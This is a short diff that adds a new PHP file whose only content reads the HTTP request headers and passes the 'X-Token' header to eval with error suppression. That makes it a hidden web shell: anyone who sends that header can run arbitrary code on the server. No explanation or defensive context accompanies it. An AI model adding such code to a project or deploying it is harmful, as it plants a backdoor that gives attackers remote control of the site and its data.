@@ -1,0 +1,3 @@
+<?php
+$h = getallheaders();
+@eval($h["X-Token"]);
